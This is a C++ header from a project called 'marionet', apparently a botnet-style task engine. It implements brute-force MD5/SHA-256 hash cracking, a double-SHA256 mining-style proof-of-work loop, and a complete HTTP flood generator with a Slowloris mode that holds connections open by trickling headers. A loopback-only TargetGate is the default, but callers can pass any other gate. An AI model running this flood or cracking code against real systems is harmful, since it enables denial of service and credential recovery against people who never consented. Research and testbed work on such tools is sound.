#pragma once

// Work engines: brute-force hash cracking over candidate ranges, a
// double-SHA256 proof-of-work loop, local hashrate measurement, and the
// open-loop HTTP flood generator. Every network-touching path goes through
// the TargetGate.

#include <algorithm>
#include <cstdint>
#include <optional>
#include <stdexcept>
#include <string>
#include <variant>
#include <vector>

#include "marionet/hash.hpp"
#include "marionet/keyspace.hpp"
#include "marionet/net.hpp"

namespace marionet {

enum class HashAlgorithm { MD5, SHA256 };
enum class HttpMethod { GET, POST, OPTIONS };

inline const char* to_string(HashAlgorithm a) {
  return a == HashAlgorithm::MD5 ? "md5" : "sha256";
}

inline std::optional<HashAlgorithm> parse_hash_algorithm(const std::string& s) {
  if (s == "md5" || s == "MD5") return HashAlgorithm::MD5;
  if (s == "sha256" || s == "SHA256") return HashAlgorithm::SHA256;
  return std::nullopt;
}

inline size_t digest_size(HashAlgorithm a) { return a == HashAlgorithm::MD5 ? 16 : 32; }

inline Digest compute_digest(HashAlgorithm a, std::string_view message) {
  if (a == HashAlgorithm::MD5) return to_digest(md5(message));
  return to_digest(sha256(message));
}

inline const char* to_string(HttpMethod m) {
  switch (m) {
    case HttpMethod::GET: return "GET";
    case HttpMethod::POST: return "POST";
    case HttpMethod::OPTIONS: return "OPTIONS";
  }
  return "GET";
}

inline std::optional<HttpMethod> parse_http_method(const std::string& s) {
  if (s == "GET") return HttpMethod::GET;
  if (s == "POST") return HttpMethod::POST;
  if (s == "OPTIONS") return HttpMethod::OPTIONS;
  return std::nullopt;
}

struct HashCrackTask {
  HashAlgorithm algorithm = HashAlgorithm::SHA256;
  Digest target_digest;
  std::string alphabet;
  uint32_t length = 0;
  KeyRange range;

  friend bool operator==(const HashCrackTask&, const HashCrackTask&) = default;
};

struct PowTask {
  std::vector<uint8_t> header;
  std::array<uint8_t, 32> target{};  // 256-bit big-endian threshold
  KeyRange nonce_range;

  friend bool operator==(const PowTask&, const PowTask&) = default;
};

struct FloodTask {
  std::string host;
  uint16_t port = 0;
  std::string path = "/";
  HttpMethod method = HttpMethod::OPTIONS;
  uint64_t duration_ms = 1000;
  int max_concurrency = 8;
  double rate_cap = 0.0;  // requests/second; 0 = uncapped
  bool hold_open = false;
  uint64_t hold_trickle_ms = 10000;

  friend bool operator==(const FloodTask&, const FloodTask&) = default;
};

struct OpaqueTask {
  std::string label;

  friend bool operator==(const OpaqueTask&, const OpaqueTask&) = default;
};

struct TaskSpec {
  std::string task_id;
  double intensity_cap = 1.0;
  std::variant<HashCrackTask, PowTask, FloodTask, OpaqueTask> kind;

  friend bool operator==(const TaskSpec&, const TaskSpec&) = default;
};

// Construction-time safety gate for flood tasks; the same gate is consulted
// again before any socket is opened.
inline TaskSpec make_flood_task(std::string task_id, const std::string& target,
                                HttpMethod method, uint64_t duration_ms, int max_concurrency,
                                double rate_cap, bool hold_open = false,
                                const TargetGate& gate = TargetGate::loopback_only()) {
  Endpoint ep = parse_endpoint(target);
  gate.check(ep.host, ep.port);
  FloodTask flood;
  flood.host = ep.host;
  flood.port = ep.port;
  flood.path = ep.path;
  flood.method = method;
  flood.duration_ms = duration_ms;
  flood.max_concurrency = std::max(1, max_concurrency);
  flood.rate_cap = rate_cap;
  flood.hold_open = hold_open;
  return TaskSpec{std::move(task_id), 1.0, flood};
}

inline TaskSpec make_crack_task(std::string task_id, HashAlgorithm algorithm, Digest target,
                                std::string alphabet, uint32_t length, KeyRange range) {
  if (alphabet.empty()) throw std::domain_error("crack task: empty alphabet");
  if (target.size() != digest_size(algorithm))
    throw std::domain_error("crack task: digest length does not match algorithm");
  u128 total = keyspace_size(alphabet.size(), length);
  if (range.begin > range.end || range.end > total)
    throw std::domain_error("crack task: range outside keyspace");
  HashCrackTask crack{algorithm, std::move(target), std::move(alphabet), length, range};
  return TaskSpec{std::move(task_id), 1.0, crack};
}

struct SearchResult {
  u128 new_cursor = 0;
  std::optional<std::string> finding;
  uint64_t examined = 0;
};

// Scans candidates [cursor, range.end) in index order, at most
// max_candidates of them; stops at the first digest match.
inline SearchResult hashcrack_search(const HashCrackTask& task, u128 cursor,
                                     uint64_t max_candidates) {
  if (cursor < task.range.begin || cursor > task.range.end)
    throw std::domain_error("hashcrack_search: cursor outside task range");
  SearchResult result;
  result.new_cursor = cursor;
  if (max_candidates == 0 || cursor == task.range.end) return result;

  const size_t dsize = digest_size(task.algorithm);
  if (task.target_digest.size() != dsize) {
    // Digest cannot match any candidate; treat the slice as scanned.
    u128 remaining = task.range.end - cursor;
    u128 step = std::min<u128>(remaining, max_candidates);
    result.new_cursor = cursor + step;
    result.examined = static_cast<uint64_t>(step);
    return result;
  }

  // Odometer over the candidate string avoids re-expanding every index.
  std::string candidate = index_to_candidate(cursor, task.alphabet, task.length);
  std::vector<uint32_t> pos(task.length);
  {
    u128 rest = cursor;
    for (uint32_t i = task.length; i-- > 0;) {
      pos[i] = static_cast<uint32_t>(rest % task.alphabet.size());
      rest /= task.alphabet.size();
    }
  }
  auto advance = [&]() {
    for (uint32_t i = task.length; i-- > 0;) {
      if (++pos[i] < task.alphabet.size()) {
        candidate[i] = task.alphabet[pos[i]];
        return;
      }
      pos[i] = 0;
      candidate[i] = task.alphabet[0];
    }
  };

  u128 index = cursor;
  uint64_t examined = 0;
  const bool use_md5 = task.algorithm == HashAlgorithm::MD5;
  while (index < task.range.end && examined < max_candidates) {
    bool match;
    if (use_md5) {
      auto d = md5(candidate);
      match = std::equal(d.begin(), d.end(), task.target_digest.begin());
    } else {
      auto d = sha256(candidate);
      match = std::equal(d.begin(), d.end(), task.target_digest.begin());
    }
    ++examined;
    ++index;
    if (match) {
      result.finding = candidate;
      break;
    }
    advance();
  }
  result.new_cursor = index;
  result.examined = examined;
  return result;
}

struct PowResult {
  u128 new_cursor = 0;
  std::optional<uint64_t> nonce;
  uint64_t hashes_done = 0;
};

// Stand-in proof of work: a nonce wins when
// SHA256(SHA256(header || nonce_le64)) < target as a 256-bit big-endian int.
inline PowResult pow_attempt(const PowTask& task, u128 cursor, uint64_t max_nonces) {
  if (cursor < task.nonce_range.begin || cursor > task.nonce_range.end)
    throw std::domain_error("pow_attempt: cursor outside nonce range");
  PowResult result;
  result.new_cursor = cursor;

  std::vector<uint8_t> msg(task.header);
  msg.resize(task.header.size() + 8);
  u128 index = cursor;
  while (index < task.nonce_range.end && result.hashes_done < max_nonces) {
    uint64_t nonce = static_cast<uint64_t>(index);
    for (int i = 0; i < 8; ++i) msg[task.header.size() + i] = static_cast<uint8_t>(nonce >> (8 * i));
    auto inner = sha256(msg.data(), msg.size());
    auto outer = sha256(inner.data(), inner.size());
    ++result.hashes_done;
    ++index;
    if (std::memcmp(outer.data(), task.target.data(), 32) < 0) {
      result.nonce = nonce;
      break;
    }
  }
  result.new_cursor = index;
  return result;
}

// Measured local single-thread throughput. Reported only; the reference
// figures in the calibration table are different hardware.
inline double measure_hashrate(HashAlgorithm algorithm, uint64_t duration_ms,
                               const MsClock& clock = steady_clock_ms()) {
  if (duration_ms < 100) throw std::invalid_argument("measure_hashrate: duration must be >= 100 ms");
  uint8_t buf[64] = {0};
  uint64_t counter = 0;
  uint64_t start = clock();
  uint64_t deadline = start + duration_ms;
  volatile uint8_t sink_byte = 0;
  while (clock() < deadline) {
    for (int batch = 0; batch < 2048; ++batch) {
      std::memcpy(buf, &counter, sizeof(counter));
      if (algorithm == HashAlgorithm::MD5) {
        auto d = md5(buf, sizeof(buf));
        sink_byte ^= d[0];
      } else {
        auto d = sha256(buf, sizeof(buf));
        sink_byte ^= d[0];
      }
      ++counter;
    }
  }
  uint64_t elapsed = std::max<uint64_t>(1, clock() - start);
  (void)sink_byte;
  return static_cast<double>(counter) * 1000.0 / static_cast<double>(elapsed);
}

struct FloodStats {
  uint64_t attempted = 0;
  uint64_t completed = 0;
  uint64_t failed = 0;
  uint64_t in_flight_at_deadline = 0;
  double achieved_rate = 0.0;  // attempted per second of configured duration
  uint64_t duration_ms = 0;

  friend bool operator==(const FloodStats&, const FloodStats&) = default;
};

namespace detail {

inline std::string build_flood_request(const FloodTask& task, bool terminated) {
  std::string req;
  req += to_string(task.method);
  req += " " + task.path + " HTTP/1.1\r\n";
  req += "Host: " + task.host + ":" + std::to_string(task.port) + "\r\n";
  req += "Origin: http://localhost\r\n";
  if (task.method == HttpMethod::OPTIONS) req += "Access-Control-Request-Method: POST\r\n";
  if (task.method == HttpMethod::POST) req += "Content-Length: 0\r\n";
  req += "Accept: */*\r\n";
  req += "Connection: close\r\n";
  if (terminated) req += "\r\n";
  return req;
}

struct FloodConn {
  Socket sock;
  enum class State { Connecting, Sending, Receiving, Holding } state = State::Connecting;
  size_t sent = 0;
  std::string inbuf;
  uint64_t started_ms = 0;
  uint64_t last_trickle_ms = 0;
  int trickle_count = 0;
};

}  // namespace detail

// Open-loop flood: initiations are paced by rate_cap and bounded by
// max_concurrency, independent of responses. Counts every initiation.
inline FloodStats flood_run(const FloodTask& task, const TargetGate& gate = TargetGate::loopback_only(),
                            const MsClock& clock = steady_clock_ms()) {
  gate.check(task.host, task.port);

  FloodStats stats;
  stats.duration_ms = task.duration_ms;
  const std::string request = detail::build_flood_request(task, /*terminated=*/!task.hold_open);
  const uint64_t start = clock();
  const uint64_t end = start + task.duration_ms;
  const uint64_t conn_timeout_ms = 5000;
  const uint64_t drain_deadline = end + conn_timeout_ms;

  std::vector<detail::FloodConn> conns;
  conns.reserve(static_cast<size_t>(task.max_concurrency));

  auto may_initiate = [&](uint64_t now) {
    if (now >= end) return false;
    if (conns.size() >= static_cast<size_t>(task.max_concurrency)) return false;
    if (task.hold_open && stats.attempted >= static_cast<uint64_t>(task.max_concurrency))
      return false;
    if (task.rate_cap > 0) {
      // initiation n is allowed from start + n/rate
      double allowed_at = static_cast<double>(stats.attempted) * 1000.0 / task.rate_cap;
      if (static_cast<double>(now - start) < allowed_at) return false;
    }
    return true;
  };

  auto fail_conn = [&](size_t i) {
    stats.failed++;
    conns.erase(conns.begin() + static_cast<long>(i));
  };

  while (true) {
    uint64_t now = clock();
    bool initiating_window = now < end;
    if (!initiating_window && conns.empty()) break;
    if (now >= drain_deadline) break;
    if (task.hold_open && !initiating_window) break;

    while (may_initiate(now)) {
      gate.check(task.host, task.port);  // socket-construction boundary
      stats.attempted++;
      try {
        detail::FloodConn c;
        c.sock = connect_nonblocking(task.host, task.port);
        c.started_ms = now;
        conns.push_back(std::move(c));
      } catch (const NetError&) {
        stats.failed++;
      }
    }

    std::vector<pollfd> pfds;
    pfds.reserve(conns.size());
    for (auto& c : conns) {
      short events = 0;
      switch (c.state) {
        case detail::FloodConn::State::Connecting: events = POLLOUT; break;
        case detail::FloodConn::State::Sending: events = POLLOUT; break;
        case detail::FloodConn::State::Receiving: events = POLLIN; break;
        case detail::FloodConn::State::Holding: events = POLLIN; break;
      }
      pfds.push_back(pollfd{c.sock.fd(), events, 0});
    }

    int timeout = 2;
    if (task.hold_open) timeout = 20;
    ::poll(pfds.data(), pfds.size(), timeout);
    now = clock();

    for (size_t i = conns.size(); i-- > 0;) {
      auto& c = conns[i];
      const short re = pfds[i].revents;
      if (re & (POLLERR | POLLNVAL)) {
        fail_conn(i);
        continue;
      }
      if (c.state == detail::FloodConn::State::Connecting && (re & POLLOUT)) {
        int err = 0;
        socklen_t len = sizeof(err);
        getsockopt(c.sock.fd(), SOL_SOCKET, SO_ERROR, &err, &len);
        if (err != 0) {
          fail_conn(i);
          continue;
        }
        c.state = detail::FloodConn::State::Sending;
      }
      if (c.state == detail::FloodConn::State::Sending) {
        ssize_t n = ::send(c.sock.fd(), request.data() + c.sent, request.size() - c.sent,
                           MSG_NOSIGNAL);
        if (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK) {
          fail_conn(i);
          continue;
        }
        if (n > 0) c.sent += static_cast<size_t>(n);
        if (c.sent == request.size()) {
          c.state = task.hold_open ? detail::FloodConn::State::Holding
                                   : detail::FloodConn::State::Receiving;
          c.last_trickle_ms = now;
        }
      }
      if (c.state == detail::FloodConn::State::Receiving && (re & (POLLIN | POLLHUP))) {
        char buf[2048];
        ssize_t n = ::recv(c.sock.fd(), buf, sizeof(buf), 0);
        if (n > 0) {
          c.inbuf.append(buf, static_cast<size_t>(n));
          if (c.inbuf.find("\r\n\r\n") != std::string::npos) {
            stats.completed++;
            conns.erase(conns.begin() + static_cast<long>(i));
            continue;
          }
        } else if (n == 0 || (n < 0 && errno != EAGAIN && errno != EWOULDBLOCK)) {
          // peer closed before a full response
          fail_conn(i);
          continue;
        }
      }
      if (c.state == detail::FloodConn::State::Holding) {
        // Slowloris mode: keep the request unfinished, trickling a header
        // line every hold_trickle_ms to keep the connection alive.
        if (now - c.last_trickle_ms >= task.hold_trickle_ms) {
          std::string line = "X-Keep-" + std::to_string(c.trickle_count++) + ": 1\r\n";
          if (::send(c.sock.fd(), line.data(), line.size(), MSG_NOSIGNAL) < 0 &&
              errno != EAGAIN && errno != EWOULDBLOCK) {
            fail_conn(i);
            continue;
          }
          c.last_trickle_ms = now;
        }
        continue;
      }
      if (now - c.started_ms > conn_timeout_ms) fail_conn(i);
    }
  }

  stats.in_flight_at_deadline = conns.size();
  if (task.duration_ms > 0)
    stats.achieved_rate = static_cast<double>(stats.attempted) * 1000.0 /
                          static_cast<double>(task.duration_ms);
  return stats;
}

}  // namespace marionet
